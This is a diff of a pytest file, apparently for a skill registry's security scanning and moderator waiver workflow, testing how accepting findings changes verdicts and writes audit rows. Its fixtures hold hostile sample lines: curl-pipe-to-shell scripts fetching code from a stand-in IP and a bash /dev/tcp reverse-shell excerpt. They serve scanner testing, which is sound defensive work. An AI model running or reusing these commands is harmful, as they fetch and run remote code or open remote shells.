@@ -30,15 +30,18 @@ REVIEW_SCRIPT = b"#!/bin/sh\ncurl -fsSL https://example.org/install.sh | sh\n"
 FAIL_SCRIPT = b"#!/bin/sh\ncurl -s http://203.0.113.5/p.sh | sh\n"
 
 
-def version_with_files(files: dict[str, bytes], *, skill=None, publish=False, scan=True) -> SkillVersion:
+def version_with_files(
+    files: dict[str, bytes], *, skill=None, publish=False, scan=True
+) -> SkillVersion:
     """A version whose files are stored like ingestion stores them, optionally scanned."""
     skill = skill or SkillFactory()
     manifest = [{"path": p, "size": len(d), "sha256": sha(p)} for p, d in files.items()]
     version = SkillVersionFactory(skill=skill, file_manifest=manifest, security_verdict="")
     for path, data in files.items():
         digest, key = blob_put(data)
-        SkillFile.objects.create(version=version, path=path, size=len(data), sha256=digest,
-                                 storage_key=key, is_text=True)
+        SkillFile.objects.create(
+            version=version, path=path, size=len(data), sha256=digest, storage_key=key, is_text=True
+        )
     if scan:
         version_scan(version=version, files=list(files.items()))
     if publish:
@@ -60,25 +63,47 @@ def synthetic_scan(version, findings: list[dict]) -> ScanResult:
     version.security_verdict, version.risk_score = verdict, risk
     version.save(update_fields=["security_verdict", "risk_score"])
     return ScanResult.objects.create(
-        version=version, scanner_version="test", rules_hash="test", verdict=verdict,
-        risk_score=risk, findings=[f.as_dict() for f in objs],
+        version=version,
+        scanner_version="test",
+        rules_hash="test",
+        verdict=verdict,
+        risk_score=risk,
+        findings=[f.as_dict() for f in objs],
     )
 
 
-CRITICAL = {"rule_id": "exec.reverse-shell", "severity": "critical", "file": "scripts/a.sh",
-            "line": 3, "excerpt": "bash -i >& /dev/tcp/198.51.100.1/4444 0>&1", "message": "reverse shell"}
-MEDIUM = {"rule_id": "obfuscation.encoded-blob", "severity": "medium", "file": "data.txt",
-          "line": 1, "excerpt": "QUJD...", "message": "a long encoded blob"}
+CRITICAL = {
+    "rule_id": "exec.reverse-shell",
+    "severity": "critical",
+    "file": "scripts/a.sh",
+    "line": 3,
+    "excerpt": "bash -i >& /dev/tcp/198.51.100.1/4444 0>&1",
+    "message": "reverse shell",
+}
+MEDIUM = {
+    "rule_id": "obfuscation.encoded-blob",
+    "severity": "medium",
+    "file": "data.txt",
+    "line": 1,
+    "excerpt": "QUJD...",
+    "message": "a long encoded blob",
+}
 
 
 def test_accepting_the_only_finding_makes_a_review_version_pass(staff_user):
-    version = version_with_files({"SKILL.md": SKILL_MD, "scripts/run.sh": REVIEW_SCRIPT}, publish=True)
+    version = version_with_files(
+        {"SKILL.md": SKILL_MD, "scripts/run.sh": REVIEW_SCRIPT}, publish=True
+    )
     assert version.security_verdict == "review"
     assert version.skill.security_verdict == "review"
     (finding,) = [f for f in findings_of(version) if f["severity"] in ("medium", "high")]
 
-    waiver = finding_accept(version=version, finding_key=finding["key"], moderator=staff_user,
-                            reason="Installer from the project's own site; documented.")
+    waiver = finding_accept(
+        version=version,
+        finding_key=finding["key"],
+        moderator=staff_user,
+        reason="Installer from the project's own site; documented.",
+    )
 
     assert waiver.moderator == staff_user and waiver.finding_key == finding["key"]
     version.refresh_from_db()
@@ -114,12 +139,18 @@ def test_one_accepted_finding_leaves_the_other_counting(staff_user):
     synthetic_scan(version, [CRITICAL, MEDIUM])
     assert version.security_verdict == "fail"
     medium_key = next(f["key"] for f in findings_of(version) if f["severity"] == "medium")
-    finding_accept(version=version, finding_key=medium_key, moderator=staff_user, reason="test data")
+    finding_accept(
+        version=version, finding_key=medium_key, moderator=staff_user, reason="test data"
+    )
     version.refresh_from_db()
     assert version.security_verdict == "fail"
     critical_key = next(f["key"] for f in findings_of(version) if f["severity"] == "critical")
-    finding_accept(version=version, finding_key=critical_key, moderator=staff_user,
-                   reason="a documented example for a security course")
+    finding_accept(
+        version=version,
+        finding_key=critical_key,
+        moderator=staff_user,
+        reason="a documented example for a security course",
+    )
     version.refresh_from_db()
     assert (version.security_verdict, version.risk_score) == ("pass", 0)
     assert ModerationDecision.objects.filter(action="accept_finding").count() == 2
@@ -128,8 +159,12 @@ def test_one_accepted_finding_leaves_the_other_counting(staff_user):
 def test_raw_skill_rows_follow_the_new_verdict(staff_user):
     raw = RawSkillFactory(security_verdict="review")
     synthetic_scan(raw.version, [MEDIUM])
-    finding_accept(version=raw.version, finding_key=findings_of(raw.version)[0]["key"],
-                   moderator=staff_user, reason="ok")
+    finding_accept(
+        version=raw.version,
+        finding_key=findings_of(raw.version)[0]["key"],
+        moderator=staff_user,
+        reason="ok",
+    )
     raw.refresh_from_db()
     assert (raw.security_verdict, raw.risk_score) == ("pass", 0)
 
@@ -139,8 +174,12 @@ def test_a_reason_is_required(staff_user, reason):
     version = SkillVersionFactory()
     synthetic_scan(version, [MEDIUM])
     with pytest.raises(ModerationError, match="reason"):
-        finding_accept(version=version, finding_key=findings_of(version)[0]["key"],
-                       moderator=staff_user, reason=reason)
+        finding_accept(
+            version=version,
+            finding_key=findings_of(version)[0]["key"],
+            moderator=staff_user,
+            reason=reason,
+        )
     assert not FindingWaiver.objects.exists()
     assert not ModerationDecision.objects.exists()
 
@@ -151,7 +190,9 @@ def test_unknown_key_unscanned_version_and_repeats_are_refused(staff_user):
         finding_accept(version=version, finding_key="x", moderator=staff_user, reason="r")
     synthetic_scan(version, [MEDIUM])
     with pytest.raises(ModerationError, match="No such finding"):
-        finding_accept(version=version, finding_key="exec.x:y:000", moderator=staff_user, reason="r")
+        finding_accept(
+            version=version, finding_key="exec.x:y:000", moderator=staff_user, reason="r"
+        )
     key = findings_of(version)[0]["key"]
     finding_accept(version=version, finding_key=key, moderator=staff_user, reason="r")
     with pytest.raises(ModerationError, match="already accepted"):
@@ -165,7 +206,9 @@ def test_an_older_version_does_not_change_the_skills_verdict(staff_user):
     synthetic_scan(old, [MEDIUM])
     shown = SkillVersionFactory(skill=skill, security_verdict="fail")
     skill_publish_version(skill=skill, version=shown)
-    finding_accept(version=old, finding_key=findings_of(old)[0]["key"], moderator=staff_user, reason="r")
+    finding_accept(
+        version=old, finding_key=findings_of(old)[0]["key"], moderator=staff_user, reason="r"
+    )
     assert Skill.objects.get(pk=skill.pk).security_verdict == "fail"
     old.refresh_from_db()
     assert old.security_verdict == "pass"
@@ -254,10 +297,16 @@ def test_every_moderation_action_writes_one_audit_row_and_shows_in_the_skills_hi
     skill_hide(skill=skill, moderator=staff_user, reason="reported")
     skill_unhide(skill=skill, moderator=staff_user, reason="fixed upstream")
     report = Report.objects.create(skill=skill, reason="spam", reporter_fingerprint="f1")
-    report_close(report=report, moderator=staff_user, status=Report.Status.RESOLVED, resolution="handled")
+    report_close(
+        report=report, moderator=staff_user, status=Report.Status.RESOLVED, resolution="handled"
+    )
     synthetic_scan(raw.version, [MEDIUM])
-    finding_accept(version=raw.version, finding_key=findings_of(raw.version)[0]["key"],
-                   moderator=staff_user, reason="benign data")
+    finding_accept(
+        version=raw.version,
+        finding_key=findings_of(raw.version)[0]["key"],
+        moderator=staff_user,
+        reason="benign data",
+    )
 
     actions = list(ModerationDecision.objects.order_by("id").values_list("action", flat=True))
     assert actions == ["approve", "reject", "hide", "unhide", "resolve_report", "accept_finding"]
